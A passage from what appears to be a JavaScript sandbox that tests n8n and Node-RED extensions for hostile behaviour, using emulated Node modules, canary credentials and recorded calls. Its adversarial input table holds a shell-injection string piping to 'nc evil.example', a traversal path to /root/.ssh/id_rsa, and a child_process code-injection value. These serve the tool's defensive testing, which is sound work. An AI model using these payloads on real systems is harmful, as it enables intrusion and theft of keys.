      createCipheriv: () => cipher('createCipheriv'), createDecipheriv: () => cipher('createDecipheriv'),
      timingSafeEqual: (a, b) => String(a) === String(b), getRandomValues: (a) => a,
      pbkdf2Sync: () => Buffer.alloc(32), scryptSync: () => Buffer.alloc(32), webcrypto: {}, constants: {},
    };
  }

  function vmModule() {
    function run(api) { return (code) => { recordDynamic('vm.' + api, code); return realEval(String(code)); }; }
    function Script(code) { this.code = String(code); }
    Script.prototype.runInThisContext = function () { recordDynamic('vm.Script', this.code); return realEval(this.code); };
    Script.prototype.runInNewContext = Script.prototype.runInThisContext;
    Script.prototype.runInContext = Script.prototype.runInThisContext;
    return { runInThisContext: run('runInThisContext'), runInNewContext: run('runInNewContext'), runInContext: run('runInContext'), compileFunction: (c) => { recordDynamic('vm.compileFunction', c); return RealFunction(String(c)); }, Script, createContext: (o) => o || {}, isContext: () => true };
  }

  function pathModule() {
    const p = {
      sep: '/', delimiter: ':',
      join: (...a) => p.normalize(a.filter((x) => x !== '').join('/')),
      normalize: (s) => { s = String(s); const abs = s.startsWith('/'); const out = []; for (const seg of s.split('/')) { if (!seg || seg === '.') continue; if (seg === '..') { if (out.length && out[out.length - 1] !== '..') out.pop(); else if (!abs) out.push('..'); } else out.push(seg); } return (abs ? '/' : '') + out.join('/') || (abs ? '/' : '.'); },
      resolve: (...a) => { let r = ''; for (const s of a) { const x = String(s); r = x.startsWith('/') ? x : r + '/' + x; } return p.normalize(r.startsWith('/') ? r : '/app/' + r); },
      dirname: (s) => { s = String(s); const i = s.lastIndexOf('/'); return i < 0 ? '.' : i === 0 ? '/' : s.slice(0, i); },
      basename: (s, ext) => { let b = String(s).split('/').pop(); if (ext && b.endsWith(ext)) b = b.slice(0, -ext.length); return b; },
      extname: (s) => { const b = String(s).split('/').pop(); const i = b.lastIndexOf('.'); return i <= 0 ? '' : b.slice(i); },
      isAbsolute: (s) => String(s).startsWith('/'),
      relative: (a, b) => { const x = p.resolve(a).split('/').filter(Boolean), y = p.resolve(b).split('/').filter(Boolean); let i = 0; while (i < x.length && x[i] === y[i]) i++; return x.slice(i).map(() => '..').concat(y.slice(i)).join('/'); },
      parse: (s) => ({ root: String(s).startsWith('/') ? '/' : '', dir: p.dirname(s), base: p.basename(s), ext: p.extname(s), name: p.basename(s, p.extname(s)) }),
      format: (o) => (o.dir ? o.dir + '/' : '') + (o.base || (o.name || '') + (o.ext || '')),
    };
    p.posix = p;
    return p;
  }

  function utilModule() {
    return {
      promisify: (fn) => (...a) => new Promise((res, rej) => fn(...a, (e, v) => (e ? rej(e) : res(v)))),
      inherits: (c, s) => { Object.setPrototypeOf(c.prototype, s.prototype); Object.setPrototypeOf(c, s); c.super_ = s; },
      format: (...a) => a.map((x) => (typeof x === 'string' ? x : safeJson(x))).join(' '),
      inspect: (x) => safeJson(x), deprecate: (fn) => fn, isDeepStrictEqual: (a, b) => safeJson(a) === safeJson(b),
      types: { isPromise: (x) => x instanceof Promise, isDate: (x) => x instanceof Date, isRegExp: (x) => x instanceof RegExp },
      TextEncoder, TextDecoder, callbackify: (fn) => fn,
    };
  }
  function safeJson(x) { try { return stringify(x); } catch (e) { return String(x); } }
  function TextEncoder() {}
  TextEncoder.prototype.encode = (s) => Uint8Array.from(utf8Encode(String(s || '')));
  function TextDecoder() {}
  TextDecoder.prototype.decode = (b) => utf8Decode(b || []);

  const timersApi = {
    setTimeout: (fn, d, ...a) => new Timeout(addTimer('setTimeout', fn, d, a, false)),
    setInterval: (fn, d, ...a) => new Timeout(addTimer('setInterval', fn, d, a, true)),
    setImmediate: (fn, ...a) => new Timeout(addTimer('setImmediate', fn, 0, a, false)),
    clearTimeout: clearTimer, clearInterval: clearTimer, clearImmediate: clearTimer,
  };
  // Internal timers (our own streams' events) are not the extension's and are not recorded.
  function setTimeoutImpl(fn, d) { timers.push({ id: ++timerSeq, at: clock + (d || 0), delay: d || 0, fn, args: [], repeat: false, runs: 0 }); }

  // ---- process ------------------------------------------------------------------------------

  const ENV = Object.assign({ HOME: '/home/node', PATH: '/usr/local/bin:/usr/bin:/bin', USER: 'node', SHELL: '/bin/sh', NODE_ENV: 'production', LANG: 'C.UTF-8', PWD: '/app', TZ: 'UTC' }, cfg.env || {});
  const env = new Proxy(ENV, {
    get(t, k) { if (typeof k !== 'string') return undefined; record('env', { name: k }); return t[k]; },
    has(t, k) { if (typeof k === 'string') record('env', { name: k }); return k in t; },
    ownKeys(t) { record('env', { name: '*' }); return Reflect.ownKeys(t); },
    getOwnPropertyDescriptor(t, k) { return Reflect.getOwnPropertyDescriptor(t, k); },
    set(t, k, v) { t[k] = String(v); return true; },
  });
  class ExitSignal extends Error {}
  const processObj = new EventEmitter();
  Object.assign(processObj, {
    env, argv: ['/usr/local/bin/node', '/app/index.js'], execArgv: [], execPath: '/usr/local/bin/node', version: 'v20.11.1',
    versions: { node: '20.11.1', v8: '11.3.244.8', uv: '1.46.0' }, platform: 'linux', arch: 'x64', pid: 4242, ppid: 1, title: 'node', release: { name: 'node' },
    cwd: () => '/app', chdir: noop, umask: () => 0o22, hrtime: Object.assign(() => [clock, 0], { bigint: () => BigInt(clock) * 1000000n }),
    uptime: () => clock / 1000, memoryUsage: () => ({ rss: 5e7, heapTotal: 3e7, heapUsed: 2e7, external: 1e6 }), cpuUsage: () => ({ user: 0, system: 0 }),
    nextTick: (fn, ...a) => { Promise.resolve().then(() => fn(...a)); },
    exit: (code) => { record('exit', { code: code === undefined ? 0 : Number(code) }); throw new ExitSignal('process.exit'); },
    kill: (pid, sig) => { record('spawn', { api: 'process.kill', command: 'kill ' + String(sig || '') + ' ' + pid, args: [] }); return true; },
    emitWarning: noop, binding: (n) => { record('dynamic-code', { api: 'process.binding', source: String(n), length: 0 }); return absent('binding'); },
    stdout: { write: () => true, isTTY: false, on: noop }, stderr: { write: () => true, isTTY: false, on: noop }, stdin: new Stream(),
    getuid: () => 1000, getgid: () => 1000, features: {}, config: { variables: {} },
  });

  // ---- modules ------------------------------------------------------------------------------

  const core = {};
  function coreModule(name) {
    if (core[name]) return core[name];
    let m;
    switch (name) {
      case 'fs': m = fsModule(); break;
      case 'fs/promises': m = coreModule('fs').promises; break;
      case 'child_process': m = childProcessModule(); break;
      case 'http': m = httpModule('http'); break;
      case 'https': m = httpModule('https'); break;
      case 'http2': m = { connect: (u) => { recordRequest('http2.connect', 'backend-http', 'CONNECT', String(u), {}, null); return new Stream(); } }; break;
      case 'net': m = socketModule('net'); break;
      case 'tls': m = socketModule('tls'); break;
      case 'dgram': m = { createSocket: () => { const s = new EventEmitter(); s.send = (msg, port, host) => recordRequest('dgram.send', 'raw-socket', 'SEND', 'udp://' + host + ':' + port, {}, String(msg)); s.bind = noop; s.close = noop; return s; } }; break;
      case 'dns': m = dnsModule(); break;
      case 'dns/promises': m = dnsModule().promises; break;
      case 'os': m = osModule(); break;
      case 'crypto': m = cryptoModule(); break;
      case 'vm': m = vmModule(); break;
      case 'worker_threads': m = { isMainThread: true, parentPort: null, workerData: null, threadId: 0, Worker: function (file, opts) { recordDynamic('worker_threads.Worker', opts && opts.eval ? file : 'file:' + file); return new EventEmitter(); } }; break;
      case 'path': case 'path/posix': m = pathModule(); break;
      case 'events': m = EventEmitter; break;
      case 'stream': m = Object.assign(Stream, { Stream, Readable: Stream, Writable: Stream, Transform: Stream, PassThrough: Stream, Duplex: Stream, pipeline: (...a) => { const cb = a.pop(); if (typeof cb === 'function') setTimeoutImpl(() => cb(null), 0); } }); break;
      case 'util': m = utilModule(); break;
      case 'url': m = { URL, URLSearchParams, parse: (s) => { try { const u = new URL(s); return { protocol: u.protocol, host: u.host, hostname: u.hostname, port: u.port || null, pathname: u.pathname, search: u.search, query: u.search.slice(1), hash: u.hash || null, href: u.href, path: u.pathname + u.search }; } catch (e) { return { pathname: String(s), href: String(s) }; } }, format: (u) => (typeof u === 'string' ? u : u.href || optionsUrl(u, 'http:')), resolve: (a, b) => new URL(b, a).href, fileURLToPath: (u) => String(u).replace(/^file:\/\//, ''), pathToFileURL: (p) => new URL('file://' + p) }; break;
      case 'querystring': m = { stringify: (o) => new URLSearchParams(o || {}).toString(), parse: (s) => { const o = {}; for (const [k, v] of new URLSearchParams(String(s))) o[k] = v; return o; }, escape: encodeURIComponent, unescape: safeDecode }; break;
      case 'buffer': m = { Buffer, constants: { MAX_LENGTH: 1 << 30 } }; break;
      case 'string_decoder': m = { StringDecoder: function () { this.write = (b) => Buffer.from(b).toString(); this.end = () => ''; } }; break;
      case 'assert': m = Object.assign((c, msg) => { if (!c) throw new Error(msg || 'assertion failed'); }, { strictEqual: (a, b, msg) => { if (a !== b) throw new Error(msg || 'not equal'); }, ok: (c, msg) => { if (!c) throw new Error(msg || 'assertion failed'); }, deepStrictEqual: noop, equal: noop, notStrictEqual: noop }); break;
      case 'zlib': m = { gunzipSync: (b) => { noteDecoded('zlib.gunzipSync', String(b)); return b; }, inflateSync: (b) => b, gzipSync: (b) => b, deflateSync: (b) => b, createGzip: () => new Stream(), createGunzip: () => new Stream() }; break;
      case 'timers': m = timersApi; break;
      case 'timers/promises': m = { setTimeout: (d, v) => new Promise((r) => timersApi.setTimeout(() => r(v), d)), setImmediate: (v) => Promise.resolve(v) }; break;
      case 'process': m = processObj; break;
      case 'module': m = { createRequire: () => makeRequire(''), builtinModules: CORE }; break;
      default: m = absent(name);
    }
    core[name] = m;
    return m;
  }
  const CORE = ['fs', 'fs/promises', 'child_process', 'http', 'https', 'http2', 'net', 'tls', 'dgram', 'dns', 'dns/promises', 'os', 'crypto', 'vm', 'worker_threads', 'path', 'path/posix', 'events', 'stream', 'util', 'url', 'querystring', 'buffer', 'string_decoder', 'assert', 'zlib', 'timers', 'timers/promises', 'process', 'module', 'readline', 'tty', 'cluster', 'v8', 'perf_hooks', 'inspector', 'async_hooks', 'constants', 'punycode', 'stream/promises', 'diagnostics_channel'];
  const NET_LIBS = { axios: 1, 'node-fetch': 1, got: 1, request: 1, 'request-promise': 1, 'request-promise-native': 1, superagent: 1, undici: 1, 'cross-fetch': 1, 'isomorphic-fetch': 1 };

  function n8nWorkflow() {
    class NodeError extends Error { constructor(node, err, opts) { super((opts && opts.message) || (err && err.message) || String(err)); this.name = this.constructor.name; this.node = node; this.description = opts && opts.description; } }
    class NodeOperationError extends NodeError {}
    class NodeApiError extends NodeError {}
    class ApplicationError extends Error {}
    return {
      NodeOperationError, NodeApiError, ApplicationError, NodeConnectionType: { Main: 'main', AiTool: 'ai_tool' }, NodeConnectionTypes: { Main: 'main', AiTool: 'ai_tool' },
      jsonParse: (s, o) => { try { return parseJson(s); } catch (e) { if (o && 'fallbackValue' in o) return o.fallbackValue; throw e; } },
      deepCopy: (x) => (x === undefined ? x : parseJson(stringify(x))), sleep: () => Promise.resolve(), NodeHelpers: {}, LoggerProxy: { info: noop, warn: noop, error: noop, debug: noop },
      updateDisplayOptions: (o, props) => props, BINARY_ENCODING: 'base64', isObjectEmpty: (o) => !o || ObjectKeys(o).length === 0,
    };
  }

  const cache = {};
  let moduleCount = 0;
  function loadFile(path, text) {
    if (cache[path]) return cache[path].exports;
    if (++moduleCount > 2000) throw new Error('portcullis: module limit reached');
    const module = { exports: {}, id: path, filename: '/pkg/' + path, loaded: false, children: [], paths: [] };
    cache[path] = module;
    if (path.endsWith('.json')) { try { module.exports = parseJson(text); } catch (e) { record('exception', { phase: 'load', path, error: describeError(e) }); } return module.exports; }
    if (text.startsWith('#!')) text = '//' + text;
    const wrapper = hostCompile('(function (exports, require, module, __filename, __dirname) {' + text + '\n})', path);
    wrapper.call(module.exports, module.exports, makeRequire(dirname(path)), module, '/pkg/' + path, '/pkg/' + dirname(path));
    module.loaded = true;
    return module.exports;
  }
  function findFile(p) {
    for (const c of [p, p + '.js', p + '.cjs', p + '.json', p + '/index.js', p + '/index.json']) {
      if (!c || c.startsWith('/')) continue;
      const t = hostRead(c);
      if (t !== null && t !== undefined) return [c, t];
    }
    const pj = hostRead((p ? p + '/' : '') + 'package.json');
    if (pj) {
      try { const main = parseJson(pj).main; if (typeof main === 'string') { const q = normalize((p ? p + '/' : '') + main); if (q !== null && q !== p) { const r = findFile(q); if (r) return r; } } } catch (e) { /* malformed package.json: fall through */ }
    }
    for (const c of [p + '.ts', p + '/index.ts']) if (hostRead(c) != null) { record('typescript-only', { path: c }); break; }
    return null;
  }
  function makeRequire(fromDir) {
    function require(spec) {
      if (typeof spec !== 'string') { record('dynamic-code', { api: 'require(non-string)', source: String(spec), length: 0 }); return absent(String(spec)); }
      let name = spec.startsWith('node:') ? spec.slice(5) : spec;
      if (CORE.indexOf(name) >= 0) { record('core-module', { name }); return coreModule(name); }
      if (name.startsWith('./') || name.startsWith('../') || name === '.' || name === '..') {
        const p = normalize((fromDir ? fromDir + '/' : '') + name);
        if (p === null) { record('module-escape', { spec }); return absent(spec); }
        const f = findFile(p);
        if (!f) { record('missing-dependency', { name: spec, from: fromDir }); return absent(spec); }
        return loadFile(f[0], f[1]);
      }
      if (name.startsWith('/')) {
        const p = pkgPath(name);
        const f = p !== null ? findFile(p) : null;
        if (!f) { record('module-escape', { spec }); return absent(spec); }
        return loadFile(f[0], f[1]);
      }
      let dir = fromDir;
      for (let i = 0; i < 64; i++) {
        const f = findFile(normalize((dir ? dir + '/' : '') + 'node_modules/' + name));
        if (f) return loadFile(f[0], f[1]);
        if (!dir) break;
        dir = dirname(dir);
      }
      const root = name.split('/').slice(0, name.startsWith('@') ? 2 : 1).join('/');
      if (root === 'n8n-workflow' || root === 'n8n-core') return n8nWorkflow();
      record('missing-dependency', { name: spec });
      if (NET_LIBS[root]) { const a = axiosLike(root); if (root === 'node-fetch' || root === 'cross-fetch' || root === 'isomorphic-fetch') { const f = (u, i) => fetchImpl(u, i); f.default = f; return f; } if (root === 'undici') return { fetch: fetchImpl, request: (u, o) => a(Object.assign({}, o, { url: u })) }; return a; }
      return absent(spec);
    }
    require.resolve = (s) => s;
    require.cache = cache;
    require.main = undefined;
    return require;
  }

  // ---- globals the extension sees -----------------------------------------------------------

  const g = globalThis;
  g.global = g;
  g.process = processObj;
  g.Buffer = Buffer;
  g.URL = URL;
  g.URLSearchParams = URLSearchParams;
  g.TextEncoder = TextEncoder;
  g.TextDecoder = TextDecoder;
  g.fetch = fetchImpl;
  g.atob = (s) => { const r = utf8Decode(b64Decode(s)); noteDecoded('atob', r); return r; };
  g.btoa = (s) => b64Encode(utf8Encode(String(s)));
  g.structuredClone = (x) => parseJson(stringify(x));
  g.queueMicrotask = (fn) => { Promise.resolve().then(fn); };
  g.console = { log: noop, info: noop, warn: noop, error: noop, debug: noop, trace: noop, dir: noop, table: noop, time: noop, timeEnd: noop, group: noop, groupEnd: noop, assert: noop };
  g.AbortController = function () { this.signal = { aborted: false, addEventListener: noop, removeEventListener: noop }; this.abort = () => { this.signal.aborted = true; }; };
  g.eval = evalWrapper;
  g.Function = FunctionWrapper;
  Object.assign(g, timersApi);

  // ---- inputs ---------------------------------------------------------------------------

  const ADV = {
    shell: MARK + 'shell"; id; `uname` $(whoami) | nc evil.example 9 #',
    path: '../../../../../etc/' + MARK + 'path/../../root/.ssh/id_rsa',
    code: MARK + "code'); require('child_process').exec('id'); ('",
    proto: '__proto__',
    huge: MARK + 'huge' + 'A'.repeat(200000),
  };
  const URLISH = /url|uri|host|domain|endpoint|server|baseurl|webhook/i;
  function plausibleString(name) {
    const n = String(name || '').toLowerCase();
    if (URLISH.test(n)) return 'https://user-configured.example.test/api';
    if (n.indexOf('email') >= 0) return 'ada@example.test';
    if (n.indexOf('json') >= 0 || n.indexOf('body') >= 0) return '{"id":1}';
    if (n.indexOf('path') >= 0 || n.indexOf('file') >= 0) return 'report.csv';
    if (n.indexOf('command') >= 0 || n.indexOf('cmd') >= 0) return 'status';
    return 'sample';
  }
  function valueFor(p, mode) {
    const t = p.type;
    const def = p.default;
    const adv = ADV[mode];
    if (mode === 'wrongTypes') {
      if (t === 'string' || t === 'options' || t === 'json') return 12345;
      if (t === 'number') return 'not-a-number';
      if (t === 'boolean') return 'yes';
      return null;
    }
    if (mode === 'nulls') return null;
    switch (t) {
      case 'string': case 'json': case 'color': case 'dateTime':
        if (adv !== undefined) return mode === 'proto' && t === 'json' ? '{"__proto__":{"pcyADVproto":true}}' : adv;
        if (t === 'dateTime') return '2024-05-01T10:00:00.000Z';
        return typeof def === 'string' && def !== '' && !def.startsWith('=') ? def : plausibleString(p.name);
      case 'number': return typeof def === 'number' ? def : 1;
      case 'boolean': return typeof def === 'boolean' ? def : false;
      case 'options': { const o = (p.options || []).find((x) => x && x.value !== undefined); return def !== undefined && def !== '' ? def : o ? o.value : ''; }
      case 'multiOptions': { const o = (p.options || []).find((x) => x && x.value !== undefined); return Array.isArray(def) && def.length ? def : o ? [o.value] : []; }
      case 'resourceLocator': return { __rl: true, mode: 'id', value: adv !== undefined ? adv : '123' };
      case 'collection': case 'fixedCollection': return def && typeof def === 'object' ? def : {};
      default: return def !== undefined ? def : adv !== undefined ? adv : plausibleString(p.name);
    }
  }
  const INPUTS = ['defaults', 'shell', 'path', 'code', 'proto', 'huge', 'wrongTypes'];
  function itemsFor(mode) {
    if (mode === 'malformed') return [{ json: deep('item', null) }, { json: {} }];
    if (INPUTS.indexOf(mode) > 0 && ADV[mode] !== undefined) {
      const j = deep('item');
      Object.assign(j, { id: 1, name: ADV[mode], title: ADV[mode], text: ADV[mode], message: ADV[mode], path: ADV.path, file: ADV.path, command: ADV.shell, url: 'https://user-configured.example.test/' + ADV[mode] });
      if (mode === 'proto') j.__proto__ = { pcyADVproto: true };
      return [{ json: j }];
    }
    const j = deep('item');
    Object.assign(j, { id: 1, name: 'Ada Lovelace', title: 'Quarterly report', email: 'ada@example.test', text: 'hello', message: 'hello', status: 'open', description: 'sample', url: 'https://user-configured.example.test/item' });
    return [{ json: j }];
  }

  // ---- canaries -----------------------------------------------------------------------------

  const canaries = {};
  // Secret fields get a canary token; identifiers (a store id, a region) get plain values.
  function secretField(field, hint) {
    return (hint.fields || []).indexOf(field) >= 0 || /token|secret|key|pass|auth|bearer|private|signature|credential|session|cookie/i.test(field);
  }
  function canaryFor(cred, fields) {
    if (canaries[cred]) return canaries[cred];
    const hint = (cfg.credentials || {})[cred] || {};
    const issued = {};
    const base = 'pcyCANARY' + (cfg.seed || '0') + String(ObjectKeys(canaries).length);
    const target = {};
    const issue = (field) => {
      if (issued[field] !== undefined) return issued[field];
      let v;
      if (URLISH.test(field)) v = 'https://' + (hint.host || 'user-configured.example.test');
      else if (!secretField(field, hint)) v = /user|login|account|email/i.test(field) ? 'canary-user@example.test' : 'sample-' + field;
      else { v = base + field.replace(/[^A-Za-z0-9]/g, '').slice(0, 12); record('canary', { credential: cred, field, token: v }); }
      issued[field] = v;
      target[field] = v;
      return v;
    };
    for (const f of fields || []) issue(f);
    for (const f of hint.fields || []) issue(f);
    const proxy = new Proxy(target, {
      get(t, k) { if (typeof k !== 'string' || k === 'then' || k === 'toJSON') return undefined; return issue(k); },
    });
    canaries[cred] = proxy;
    return proxy;
  }

  // ---- n8n harness --------------------------------------------------------------------------

  const plan = [];
  function nodeClasses(exp) {
    const out = [];
    const vals = typeof exp === 'function' ? [exp] : exp && typeof exp === 'object' ? ObjectKeys(exp).map((k) => exp[k]) : [];
    for (const v of vals) if (typeof v === 'function' && v.prototype) out.push(v);
    return out;
  }
  function paramPath(params, name) {
    if (name in params) return params[name];
    const parts = String(name).split('.');
    let v = params;
    for (const p of parts) { if (v === null || typeof v !== 'object' || !(p in v)) return undefined; v = v[p]; }
    return v;
  }
  function n8nContext(inst, desc, mode, method) {
    const params = {};
    for (const p of desc.properties || []) if (p && p.name && p.type !== 'notice') params[p.name] = valueFor(p, mode === 'malformed' ? 'defaults' : mode);
    const items = itemsFor(mode);
    const credTypes = (desc.credentials || []).map((c) => c && c.name).filter(Boolean);
    const staticData = {};
    function authed(credType, opts, api) {
      const c = canaryFor(credType);
      const hint = (cfg.credentials || {})[credType] || {};
      const token = c[(hint.fields || [])[0] || 'apiKey'];
      const o = Object.assign({}, opts || {});
      o.headers = Object.assign({}, o.headers || {}, { Authorization: 'Bearer ' + token });
      return httpHelper(o, api + '(' + credType + ')');
    }
    function httpHelper(o, api) {
      o = typeof o === 'string' ? { url: o } : o || {};
      const url = withQuery(optionsUrl(o, 'https:'), o.qs);
      recordRequest(api, 'backend-http', o.method || 'GET', url, o.headers || {}, o.body !== undefined ? o.body : o.form !== undefined ? o.form : o.formData);
      const body = cannedResponse();
      return Promise.resolve(o.returnFullResponse || o.resolveWithFullResponse ? { body, headers: {}, statusCode: 200, statusMessage: 'OK' } : body);
    }
    const helpers = {
      httpRequest: (o) => httpHelper(o, 'helpers.httpRequest'),
      request: (o) => httpHelper(o, 'helpers.request'),
      requestWithAuthentication: function (t, o) { return authed(t, o, 'helpers.requestWithAuthentication'); },
      httpRequestWithAuthentication: function (t, o) { return authed(t, o, 'helpers.httpRequestWithAuthentication'); },
      requestOAuth2: function (t, o) { return authed(t, o, 'helpers.requestOAuth2'); },
      requestOAuth1: function (t, o) { return authed(t, o, 'helpers.requestOAuth1'); },
      returnJsonArray: (d) => (Array.isArray(d) ? d : [d]).map((x) => ({ json: x })),
      constructExecutionMetaData: (d) => d,
      normalizeItems: (d) => d,
      prepareBinaryData: (b, name) => Promise.resolve({ data: '', fileName: name, mimeType: 'application/octet-stream' }),
      getBinaryDataBuffer: () => Promise.resolve(Buffer.from('binary')),
      assertBinaryData: () => ({ data: '', mimeType: 'text/plain', fileName: 'f.txt' }),
      binaryToBuffer: (b) => Promise.resolve(Buffer.from(String(b))),
      binaryToString: (b) => Promise.resolve(String(b)),
      createDeferredPromise: () => { let r, j; const p = new Promise((a, b) => { r = a; j = b; }); return { promise: p, resolve: r, reject: j }; },
    };
    const node = { name: desc.displayName || desc.name || 'Node', type: desc.name, typeVersion: 1, parameters: params, id: 'node-1' };
    const ctx = {
      getNodeParameter: (name, i, fallback) => { const v = paramPath(params, name); return v === undefined ? fallback : v; },
      getInputData: () => items,
      getCredentials: (t) => Promise.resolve(canaryFor(t)),
      getNode: () => node,
      getWorkflow: () => ({ id: 'wf-1', name: 'Workflow', active: false }),
      getExecutionId: () => 'exec-1', getMode: () => 'manual', getTimezone: () => 'UTC', getActivationMode: () => 'manual',
      getWorkflowStaticData: () => staticData, getRestApiUrl: () => 'http://localhost:5678/rest', getInstanceBaseUrl: () => 'http://localhost:5678/',
      continueOnFail: () => false, evaluateExpression: (e) => e, sendMessageToUI: noop, getExecuteData: () => ({}), getContext: () => staticData,
      logger: { info: noop, warn: noop, error: noop, debug: noop, verbose: noop },
      helpers,
      emit: (data) => record('emit', { items: Array.isArray(data) ? data.length : 1 }),
      emitError: (e) => record('exception', { phase: 'emitError', error: describeError(e) }),
      getNodeWebhookUrl: () => 'https://n8n.example.test/webhook/abc', getWebhookName: () => 'default', getWebhookDescription: () => ({}),
      getRequestObject: () => ({ body: items[0].json, headers: { 'content-type': 'application/json' }, query: {}, params: {}, method: 'POST' }),
      getBodyData: () => items[0].json, getHeaderData: () => ({ 'content-type': 'application/json' }), getQueryData: () => ({}), getParamsData: () => ({}),
      getResponseObject: () => ({ status: () => ({ send: noop, json: noop, end: noop }), send: noop, json: noop, end: noop, setHeader: noop }),
      getChildNodes: () => [], getParentNodes: () => [], getInputConnectionData: () => Promise.resolve(null), addInputData: () => ({ index: 0 }), addOutputData: noop,
      getNodeInputs: () => [{ type: 'main' }], getNodeOutputs: () => [{ type: 'main' }], getSignalAbort: () => ({ aborted: false }), onExecutionCancellation: noop,
    };
    return ctx;
  }
  function planN8n(exp, entry) {
    for (const C of nodeClasses(exp)) {
      let inst;
      try { inst = new C(); } catch (e) { record('exception', { phase: 'construct', path: entry, error: describeError(e) }); continue; }
      const versions = inst.nodeVersions && typeof inst.nodeVersions === 'object' ? ObjectKeys(inst.nodeVersions).map((k) => inst.nodeVersions[k]) : [inst];
      for (const v of versions) {
        const desc = (v && v.description) || inst.description;
        if (!desc || !Array.isArray(desc.properties)) continue;
        const methods = ['execute', 'poll', 'webhook', 'trigger', 'supplyData'].filter((m) => typeof v[m] === 'function');
        if (!methods.length) { record('not-callable', { node: desc.name, reason: 'declarative node (routing only): n8n performs its requests' }); continue; }
        for (const m of methods) for (const mode of INPUTS.concat(['malformed', 'nulls'])) plan.push({ label: (desc.name || C.name) + '.' + m + '[' + mode + ']', mode, run: () => {
          const ctx = n8nContext(v, desc, mode, m);
          const r = v[m].call(ctx);
          return Promise.resolve(r).then((res) => { if (m === 'trigger' && res && typeof res.manualTriggerFunction === 'function') return res.manualTriggerFunction(); return res; });
        } });
      }
    }
  }

  // ---- Node-RED harness -------------------------------------------------------------------

  function makeRED(types) {
    const RED = {
      nodes: {
        registerType(name, ctor, opts) { types.push({ name: String(name), ctor, opts: opts || {} }); record('register-type', { name: String(name) }); },
        createNode(node, config) {
          if (!node._events) node._events = {};
          for (const k of ['on', 'once', 'emit', 'off', 'removeListener', 'removeAllListeners', 'listeners', '_ev']) if (!node[k]) node[k] = EventEmitter.prototype[k];
          node.id = config.id; node.type = config.type; node.name = config.name; node.z = config.z; node.wires = config.wires;
          node.send = (msg) => record('send', { msg: clipValue(msg, 0, []) });
          node.error = (err, msg) => record('node-error', { error: describeError(err) });
          node.warn = noop; node.log = noop; node.debug = noop; node.trace = noop; node.status = noop;
          node.context = () => ctxStore; node.receive = (msg) => node.emit('input', msg, node.send, noop); node.done = noop; node.close = noop; node.updateWires = noop;
          node.credentials = canaryFor(config.type, ObjectKeys((RED._types[config.type] && RED._types[config.type].opts.credentials) || {}));
        },
        getNode: () => null, getCredentials: (id) => canaryFor(String(id)), eachNode: noop, getType: () => null, addCredentials: noop, deleteCredentials: noop,
      },
      httpAdmin: routes('httpAdmin'), httpNode: routes('httpNode'), server: new EventEmitter(),
      settings: { httpNodeRoot: '/', userDir: '/home/node/.node-red', get: () => undefined },
      util: { cloneMessage: (m) => clipValue(m, 0, []), generateId: () => 'id-1', getMessageProperty: (m, p) => paramPath(m, p), setMessageProperty: (m, p, v) => { m[p] = v; return true; }, evaluateNodeProperty: (v, t, n, m) => (t === 'msg' ? paramPath(m, v) : v), prepareJSONataExpression: (e) => e, evaluateJSONataExpression: () => null, encodeObject: (o) => o, ensureString: String, compareObjects: () => true },
      log: { info: noop, warn: noop, error: noop, debug: noop, trace: noop, log: noop, metric: () => false, _: (s) => s },
      events: new EventEmitter(), comms: { publish: noop }, library: { register: noop }, auth: { needsPermission: () => (req, res, next) => next && next() },
      _: (s) => s, version: () => '4.0.0', require: (m) => makeRequire('')(m),
      _types: {},
    };
    const ctxStore = { get: () => undefined, set: noop, keys: () => [], flow: { get: () => undefined, set: noop }, global: { get: () => undefined, set: noop } };
    function routes(name) { const r = {}; for (const m of ['get', 'post', 'put', 'delete', 'use', 'patch', 'all']) r[m] = (path) => record('route', { api: 'RED.' + name + '.' + m, path: String(path) }); return r; }
    return RED;
  }
  function nodeConfig(type) {
    const base = { id: 'n1', type, name: 'test', z: 'flow-1', wires: [[]] };
    return new Proxy(base, {
      get(t, k) { if (typeof k !== 'string') return undefined; if (k in t) return t[k]; if (k === 'then' || k === 'toJSON') return undefined; return plausibleString(k); },
    });
  }
  const MSGS = {
    defaults: () => ({ _msgid: 'm1', topic: 'sample', payload: 'hello' }),
    shell: () => ({ _msgid: 'm2', topic: ADV.shell, payload: ADV.shell, filename: ADV.path, command: ADV.shell }),
    path: () => ({ _msgid: 'm3', topic: 'x', payload: ADV.path, filename: ADV.path }),
    code: () => ({ _msgid: 'm4', topic: 'x', payload: ADV.code }),
    proto: () => parseJson('{"_msgid":"m5","payload":{"__proto__":{"pcyADVproto":true}},"topic":"__proto__"}'),
    huge: () => ({ _msgid: 'm6', payload: ADV.huge }),
    wrongTypes: () => ({ _msgid: 'm7', payload: 12345, topic: 42 }),
    malformed: () => ({ _msgid: 'm8', payload: null, topic: null }),
    nulls: () => ({ _msgid: 'm9' }),
  };
  function planNodeRed(exp, entry) {
    const types = [];
    const RED = makeRED(types);
    const fn = typeof exp === 'function' ? exp : exp && typeof exp.default === 'function' ? exp.default : null;
    if (!fn) { record('not-callable', { path: entry, reason: 'module does not export a function of RED' }); return; }
    fn.call(null, RED);
    for (const t of types) {
      RED._types[t.name] = t;
      if (typeof t.ctor !== 'function') continue;
      for (const mode of ObjectKeys(MSGS)) plan.push({ label: t.name + '.input[' + mode + ']', mode, run: () => {
        const node = Reflect.construct(t.ctor, [nodeConfig(t.name)]);
        const r = undefined;
        const handlers = (node._events && node._events.input) || [];
        const results = [r];
        const msg = MSGS[mode]();
        for (const h of handlers) {
          results.push(new Promise((resolve, reject) => {
            let settled = false;
            const done = (err) => { if (!settled) { settled = true; if (err) { record('node-error', { error: describeError(err), via: 'done' }); } resolve(); } };
            const send = (m) => record('send', { msg: clipValue(m, 0, []) });
            try { const out = h.call(node, msg, send, done); if (out && typeof out.then === 'function') out.then(() => done(), reject); else if (h.length < 3) done(); } catch (e) { reject(e); }
          }));
        }
        const closers = ((node._events && node._events.close) || []);
        return Promise.all(results).then(() => { for (const c of closers) { try { c.call(node, false, noop); } catch (e) { /* close errors are not input errors */ } } });
      } });
    }
  }

  // ---- driver (called by the host) ------------------------------------------------------

  const settled = {};
  return {
    prepare(platform, entry, kind) {
      current = 'load:' + entry;
      let exp;
      try {
        if (kind === 'script') { const f = findFile(entry); if (!f) { record('missing-dependency', { name: entry }); return 0; } exp = loadFile(f[0], f[1]); return 0; }
        if (kind === 'inline') { recordDynamic('node -e', entry); hostCompile(entry, '<inline-script>'); return 0; }
        const f = findFile(entry);
        if (!f) { record('not-callable', { path: entry, reason: 'entry point file not found (or TypeScript only)' }); return 0; }
        exp = loadFile(f[0], f[1]);
